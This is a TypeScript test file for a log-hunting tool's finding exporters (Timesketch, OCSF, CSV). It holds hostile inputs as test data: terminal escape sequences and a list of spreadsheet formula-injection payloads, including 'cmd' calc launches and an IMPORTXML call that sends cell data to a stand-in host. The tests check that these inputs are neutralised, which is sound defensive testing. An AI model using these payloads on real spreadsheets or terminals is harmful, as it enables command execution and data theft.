import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { EventBuilder, testEvent } from '../../../../test/event.ts';
import { baseLine, correlationLine } from '../../../../test/findings.ts';
import { bareOf, plainRule } from '../../../../test/rule.ts';
import { schema } from '../../../../test/schemas.ts';
import type { Rule } from '../../../know/sigma/index.ts';
import { formatMicros } from '../../../read/events/index.ts';
import { packageVersion } from '../../../state/index.ts';
import { ByteWriter } from '../../bytes/byte-writer.ts';
import { csvCell } from '../../csv-cell.ts';
import { createFindingWriter } from '../index.ts';
import { type FindingFormat, findingFormatNames, findingFormats } from './index.ts';
import { microsOf } from './line.ts';

const rule: Rule = {
  ...plainRule,
  author: 'A. Author',
  license: 'DRL-1.1',
  references: ['https://example.org/one'],
  tags: [
    'attack.persistence',
    'attack.defense_evasion',
    'attack.stealth',
    'attack.t1136.001',
    'attack.t1078',
  ],
};
const bare = bareOf(rule);

const sysmon = {
  channel: 'Microsoft-Windows-Sysmon/Operational',
  provider: 'Microsoft-Windows-Sysmon',
  eventId: 1,
  host: 'ws1.corp.example',
  fields: {
    ProcessGuid: '{0197231E-C424-69E1-C922-000000000800}',
    ProcessId: '4711',
    Image: 'C:\\Windows\\System32\\net.exe',
    CommandLine: 'net user bob /add',
    CurrentDirectory: 'C:\\',
    User: 'CORP\\alice',
    ParentProcessId: '815',
    ParentImage: 'C:\\Windows\\System32\\cmd.exe',
  },
} as const;

function lineOf(event = testEvent(sysmon), index = 0, path = 'logs/a.evtx'): string {
  const out = new ByteWriter(1);
  createFindingWriter([rule, bare], { reveal: false }).write(out, event, index, path);
  return out.take().toString('utf8');
}

function sysmonLine(): string {
  const event = testEvent(sysmon);
  event.micros = 1_552_849_781_123_456;
  event.recordId = 77;
  event.recordOffset = 4608;
  return lineOf(event);
}

/** Lines of all sorts of findings. */
function manyLines(): string {
  const builder = new EventBuilder();
  const salvaged = testEvent({ host: '', channel: '', provider: '', eventId: -1 });
  salvaged.salvaged = true;
  salvaged.recordId = -1;
  const events = [
    builder.build(sysmon),
    builder.build({
      fields: { User: 'A\\b', IpAddress: '::1', IpPort: '1', Many: ['a', 'b'], 'Odd name': '' },
    }),
    builder.build({ ...sysmon, fields: { Image: 'C:\\', User: 'CORP\\alice' } }),
    builder.build({
      channel: 'Microsoft-Windows-Sysmon/Operational',
      eventId: 3,
      fields: {
        Image: 'a\\b.exe',
        ProcessId: '0x10',
        SourceIp: '10.0.0.1',
        DestinationIp: 'x',
        DestinationPort: '443',
      },
    }),
    salvaged,
  ];
  return (
    events.flatMap(event => [0, 1].map(index => lineOf(event, index))).join('') + correlationLine + baseLine
  );
}

function format(name: FindingFormat, lines: string): string {
  const formatter = findingFormats[name].create();
  const out = new ByteWriter(1);
  formatter.header(out);
  formatter.lines(out, Buffer.from(lines));
  formatter.footer(out);
  return out.take().toString('utf8');
}

const parsed = (name: FindingFormat, lines: string) =>
  format(name, lines)
    .trimEnd()
    .split('\n')
    .map(line => JSON.parse(line));

const hostile = testEvent({
  ...sysmon,
  host: 'h\u001b[2J',
  fields: { CommandLine: 'a\u009b31m\r\nb\u202e', User: '\u001b]0;x\u0007' },
});

describe('formats', () => {
  it('are those that are named', () => expect(Object.keys(findingFormats)).toEqual([...findingFormatNames]));

  it.each(findingFormatNames)('%s leaves nothing that a terminal obeys', name => {
    const text = format(name, lineOf(hostile, 0, 'logs/\u001b]0;x\u0007.evtx'));
    expect(text.replace(/\r?\n/g, '')).not.toMatch(/[\0-\x1f\x7f-\x9f\u2028-\u202e]/);
  });

  it.each(['timesketch', 'ocsf'] as const)('%s says nothing where nothing was found', name =>
    expect(format(name, '')).toBe(''),
  );

  it.each([
    ['timesketch', 'timesketch'],
    ['ocsf', 'ocsf-finding'],
  ] as const)('%s conforms to its schema, whatever was found', (name, file) => {
    const validate = schema(file);
    for (const value of parsed(name, manyLines())) {
      if (!validate(value)) expect.fail(`${JSON.stringify(validate.errors)}\n${JSON.stringify(value)}`);
    }
  });
});

describe('a Timesketch entry', () => {
  it('is flat, with the fields that Timesketch asks for first', () =>
    expect(format('timesketch', sysmonLine())).toMatchInlineSnapshot(`
      "{"message":"Local Account Created on ws1.corp.example: net user bob /add","datetime":"2019-03-17T19:09:41.123456+00:00","timestamp":1552849781123456,"timestamp_desc":"Event Logged","tag":["high","attack.persistence","attack.defense_evasion","attack.stealth","attack.t1136.001","attack.t1078"],"data_type":"huntaway:finding:rule","level":"high","rule":"Local Account Created","technique":"T1136.001 T1078","computer_name":"ws1.corp.example","username":"CORP\\\\alice","process":"C:\\\\Windows\\\\System32\\\\net.exe","command_line":"net user bob /add","pid":4711,"parent_process":"C:\\\\Windows\\\\System32\\\\cmd.exe","channel":"Microsoft-Windows-Sysmon/Operational","source_name":"Microsoft-Windows-Sysmon","event_identifier":1,"record_number":77,"event_data":"ProcessGuid={0197231E-C424-69E1-C922-000000000800} | ProcessId=4711 | Image=C:\\\\Windows\\\\System32\\\\net.exe | CommandLine=net user bob /add | CurrentDirectory=C:\\\\ | User=CORP\\\\alice | ParentProcessId=815 | ParentImage=C:\\\\Windows\\\\System32\\\\cmd.exe","filename":"logs/a.evtx","offset":4608,"rule_id":"5af54681-df95-4c26-854f-2565e13cfab0","rule_author":"A. Author","rule_license":"DRL-1.1","rule_reference":"https://example.org/one"}
      "
    `));

  it('of a correlation tells span, group and rules', () =>
    expect(parsed('timesketch', correlationLine)).toMatchInlineSnapshot(`
      [
        {
          "correlation_count": 3,
          "correlation_group": "TargetUserName==admin | IpAddress=10.0.0.5",
          "correlation_rules": "Logon Failed (2) | Logon (1)",
          "correlation_type": "temporal_ordered",
          "data_type": "huntaway:finding:correlation",
          "datetime": "2026-03-01T12:34:56.000007+00:00",
          "first_event": "2026-03-01T12:30:00.000000+00:00",
          "last_event": "2026-03-01T12:34:56.000007+00:00",
          "level": "high",
          "message": "Many Failed Logons, Then One: TargetUserName=admin",
          "rule": "Many Failed Logons, Then One",
          "rule_author": "A. Author",
          "rule_id": "0e95725d-7320-415d-80f7-004da920fc11",
          "tag": [
            "high",
            "attack.credential-access",
            "attack.t1110",
          ],
          "technique": "T1110",
          "timestamp": 1772368496000007,
          "timestamp_desc": "Correlation Fired",
        },
      ]
    `));

  it('keeps every digit of a record number', () => {
    const event = testEvent(sysmon);
    event.recordId = Number.MAX_SAFE_INTEGER;
    expect(parsed('timesketch', lineOf(event))[0].record_number).toBe(Number.MAX_SAFE_INTEGER);
    const line = sysmonLine().replace('"record_id":"77"', '"record_id":"18446744073709551615"');
    expect(parsed('timesketch', line)[0].record_number).toBe('18446744073709551615');
  });

  it('marks what was salvaged', () => {
    const event = testEvent(sysmon);
    event.salvaged = true;
    expect(parsed('timesketch', lineOf(event))[0].tag.at(-1)).toBe('salvaged');
  });
});

describe('a time', () => {
  it('read back is the one that was written', () => {
    const first = -62_135_596_800_000_000; // The year 1.
    fc.assert(
      fc.property(fc.integer({ min: first, max: 8.64e15 }), micros => {
        expect(microsOf(formatMicros(micros))).toBe(micros);
      }),
    );
  });
});

describe('an OCSF finding', () => {
  const text = (lines: string) => format('ocsf', lines).replaceAll(packageVersion(), 'VERSION');

  it('is a Detection Finding of OCSF 1.7.0', () =>
    expect(text(sysmonLine())).toMatchInlineSnapshot(`
    "{"activity_id":1,"activity_name":"Create","category_uid":2,"category_name":"Findings","class_uid":2004,"class_name":"Detection Finding","type_uid":200401,"type_name":"Detection Finding: Create","severity_id":4,"severity":"High","status_id":1,"status":"New","time":1552849781123,"start_time":1552849781123,"end_time":1552849781123,"message":"Local Account Created on ws1.corp.example: net user bob /add","finding_info":{"uid":"83b83ac86b54f23828c7c4d542f018aea2ae03271214de501a99b6ba4486c02c","title":"Local Account Created","desc":"Local Account Created on ws1.corp.example: net user bob /add","types":["Sigma rule"],"src_url":"https://example.org/one","first_seen_time":1552849781123,"last_seen_time":1552849781123,"attacks":[{"tactic":{"uid":"TA0003","name":"Persistence"}},{"tactic":{"uid":"TA0005","name":"Defense Evasion"}},{"tactic":{"name":"Stealth"}},{"technique":{"uid":"T1136"},"sub_technique":{"uid":"T1136.001"}},{"technique":{"uid":"T1078"}}],"analytic":{"uid":"5af54681-df95-4c26-854f-2565e13cfab0","name":"Local Account Created","type_id":1,"type":"Rule","version":"2024-01-02"}},"metadata":{"version":"1.7.0","profiles":[],"product":{"name":"Huntaway","vendor_name":"Huntaway","version":"VERSION"},"event_code":"1","log_name":"Microsoft-Windows-Sysmon/Operational","log_provider":"Microsoft-Windows-Sysmon","original_time":"2019-03-17T19:09:41.123456Z"},"evidences":[{"device":{"hostname":"ws1.corp.example","type_id":0},"user":{"name":"alice","domain":"CORP"},"process":{"pid":4711,"uid":"{0197231E-C424-69E1-C922-000000000800}","name":"net.exe","cmd_line":"net user bob /add","working_directory":"C:\\\\","file":{"name":"net.exe","path":"C:\\\\Windows\\\\System32\\\\net.exe","type_id":1},"parent_process":{"pid":815,"name":"cmd.exe","file":{"name":"cmd.exe","path":"C:\\\\Windows\\\\System32\\\\cmd.exe","type_id":1}}}}],"observables":[{"name":"evidences[].device.hostname","type_id":1,"type":"Hostname","value":"ws1.corp.example"},{"name":"evidences[].user.name","type_id":4,"type":"User Name","value":"alice"},{"name":"evidences[].process.name","type_id":9,"type":"Process Name","value":"net.exe"},{"name":"evidences[].process.cmd_line","type_id":13,"type":"Command Line","value":"net user bob /add"}],"unmapped":{"rule":{"id":"5af54681-df95-4c26-854f-2565e13cfab0","name":"Local Account Created","reference":"https://example.org/one","author":"A. Author","license":"DRL-1.1","version":"2024-01-02"},"winlog":{"channel":"Microsoft-Windows-Sysmon/Operational","record_id":"77","event_data":{"ProcessGuid":"{0197231E-C424-69E1-C922-000000000800}","ProcessId":"4711","Image":"C:\\\\Windows\\\\System32\\\\net.exe","CommandLine":"net user bob /add","CurrentDirectory":"C:\\\\","User":"CORP\\\\alice","ParentProcessId":"815","ParentImage":"C:\\\\Windows\\\\System32\\\\cmd.exe"}},"log":{"file":{"path":"logs/a.evtx"},"offset":4608},"huntaway":{"kind":"rule","level":"high","status":"test","tags":["attack.persistence","attack.defense_evasion","attack.stealth","attack.t1136.001","attack.t1078"]}}}
    "
  `));

  it('of a correlation tells its rules and events', () =>
    expect(parsed('ocsf', correlationLine)[0].finding_info).toMatchInlineSnapshot(`
      {
        "analytic": {
          "name": "Many Failed Logons, Then One",
          "type": "Rule",
          "type_id": 1,
          "uid": "0e95725d-7320-415d-80f7-004da920fc11",
        },
        "attacks": [
          {
            "tactic": {
              "name": "Credential Access",
              "uid": "TA0006",
            },
          },
          {
            "technique": {
              "uid": "T1110",
            },
          },
        ],
        "desc": "Many Failed Logons, Then One: TargetUserName=admin",
        "first_seen_time": 1772368200000,
        "last_seen_time": 1772368496000,
        "related_analytics": [
          {
            "name": "Logon Failed",
            "type": "Rule",
            "type_id": 1,
            "uid": "rule-failed",
          },
          {
            "name": "Logon",
            "type": "Rule",
            "type_id": 1,
            "uid": "rule-logon",
          },
        ],
        "related_events": [
          {
            "first_seen_time": 1772368200000,
            "title": "Logon Failed",
            "type_uid": 200401,
            "uid": "4c7eaf7ee0512697afe142a4f279bec6afce7eaa7719e1aa651f7fd32d706be0",
          },
          {
            "first_seen_time": 1772368260000,
            "title": "Logon Failed",
            "type_uid": 200401,
            "uid": "87fe9da376307f12df98212c7096f7aa0ff6b3fb5c35b2d72fa8708d296bc4fc",
          },
          {
            "first_seen_time": 1772368496000,
            "title": "Logon",
            "type_uid": 200401,
            "uid": "a3de77a4d5f4fd745fea39996fa4ce3c8632ce7a41ade00605188bde1a9201f0",
          },
        ],
        "related_events_count": 3,
        "title": "Many Failed Logons, Then One",
        "types": [
          "Sigma correlation",
        ],
        "uid": "c75dd234261b894b892945fc21e38859d5258677f9b20ff66069718ec6066186",
      }
    `));

  it('of a correlation names its events by the findings of their rules', () => {
    const [correlation, base] = parsed('ocsf', correlationLine + baseLine);
    expect(correlation.finding_info.related_events[0].uid).toBe(base.finding_info.uid);
  });

  it('has the same uid in every run, and another for anything else that was found', () => {
    const uids = (lines: string): string[] => parsed('ocsf', lines).map(one => one.finding_info.uid);
    const elsewhere = testEvent(sysmon);
    elsewhere.recordOffset = 8192;
    const lines =
      lineOf() + lineOf(testEvent(sysmon), 1) + lineOf(elsewhere) + lineOf(testEvent(sysmon), 0, 'b.evtx');
    expect(uids(lines)).toEqual(uids(lines));
    expect(new Set(uids(lines + correlationLine)).size).toBe(5);
  });

  it.each([
    ['informational', 1],
    ['low', 2],
    ['medium', 3],
    ['high', 4],
    ['critical', 5],
  ])('of level %s has severity %i', (level, id) => {
    const line = sysmonLine().replace('"level":"high"', `"level":"${level}"`);
    expect(parsed('ocsf', line)[0].severity_id).toBe(id);
  });

  it('has no process where the log gives none that OCSF can name, but its file', () => {
    const [finding] = parsed('ocsf', lineOf(testEvent({ ...sysmon, fields: { Image: 'C:\\a\\b.exe' } })));
    expect(finding.evidences[0].process).toBeUndefined();
    expect(finding.evidences[0].file).toEqual({ name: 'b.exe', path: 'C:\\a\\b.exe', type_id: 1 });
    expect(finding.unmapped.process.executable).toBe('C:\\a\\b.exe');
  });

  it('leaves out evidences where nothing says who or where', () => {
    const [finding] = parsed('ocsf', correlationLine);
    expect(finding).not.toHaveProperty('evidences');
    expect(finding).not.toHaveProperty('observables');
  });
});

/** Cells of a table as a spreadsheet reads it: quotes count only at the start of a cell. */
function cells(text: string, separator: string): string[] {
  const found: string[] = [];
  for (let at = 0; at <= text.length; ) {
    let value = '';
    if (text[at] === '"') {
      for (at++; at < text.length; at++) {
        if (text[at] !== '"') value += text[at];
        else if (text[at + 1] === '"') value += text[at++];
        else break;
      }
      at++;
    }
    while (at < text.length && text[at] !== separator && text[at] !== '\n') value += text[at++];
    found.push(value);
    at++;
  }
  return found;
}

/** After blanks and quotes, which programs drop as they like. */
const isFormula = (value: string): boolean =>
  /^[\s"]*[=+\-@\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b\u2212]/.test(value);

describe('a CSV cell', () => {
  const attacks = [
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    ' =1',
    '\u00a0=1',
    '\uff1d1',
    '\uff0b1',
    '\ufe66 1',
    '"=1+1"',
    "'=1",
    '=HYPERLINK("http://x","y")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    'a;=1+1;b',
    'a; "=1+1";b',
    ';;-1',
    '=IMPORTXML(CONCAT("http://x/",A1),"//a")',
    'a\n=1',
    'a\t=1',
  ];

  it.each(attacks)('makes no formula of %j, with commas or semicolons between cells', attack => {
    const row = `x,${csvCell(attack)},${csvCell('b')}\r\n`;
    for (const separator of [',', ';', '\t']) expect(cells(row, separator).filter(isFormula)).toEqual([]);
  });

  it('makes no formula of anything', () => {
    const hostileText = fc.string({
      unit: fc.constantFrom(...'=+-@;,"\'\t\r\n a\u00a0\u200b\ufeff\uff1d\uff0b|!'),
      maxLength: 12,
    });
    fc.assert(
      fc.property(fc.array(hostileText, { minLength: 1, maxLength: 3 }), texts => {
        const row = `x,${texts.map(csvCell).join(',')}\r\n`;
        for (const separator of [',', ';', '\t']) expect(cells(row, separator).filter(isFormula)).toEqual([]);
      }),
      { numRuns: 2000 },
    );
  });

  it('is read back as the text it was, where it is harmless', () => {
    const harmless = fc.string({ unit: fc.constantFrom(...'ab1,"| .\\/'), maxLength: 12 });
    fc.assert(
      fc.property(fc.array(harmless, { minLength: 1, maxLength: 4 }), texts => {
        expect(cells(texts.map(csvCell).join(','), ',')).toEqual(texts);
      }),
    );
  });

  it('leaves numbers and ordinary switches alone', () => {
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell('net user -x /add; whoami')).toBe('"net user -x /add; whoami"');
  });
});

describe('CSV', () => {
  it('has a row for a correlation, with group, count and span', () => {
    const [header, row] = format('csv', correlationLine).split('\r\n') as [string, string];
    const names = cells(header.slice(1), ',');
    const values = cells(row, ',');
    expect(values).toHaveLength(names.length);
    const filled = Object.fromEntries(
      names.map((name, i) => [name, values[i]]).filter(([, value]) => value !== ''),
    );
    expect(filled).toEqual({
      time: '2026-03-01T12:34:56.000007Z',
      level: 'high',
      rule: 'Many Failed Logons, Then One',
      message: 'Many Failed Logons, Then One: TargetUserName=admin',
      techniques: 'T1110',
      rule_id: '0e95725d-7320-415d-80f7-004da920fc11',
      rule_author: 'A. Author',
      kind: 'correlation',
      group: 'TargetUserName==admin | IpAddress=10.0.0.5',
      count: '3',
      first: '2026-03-01T12:30:00.000000Z',
      last: '2026-03-01T12:34:56.000007Z',
    });
  });
});
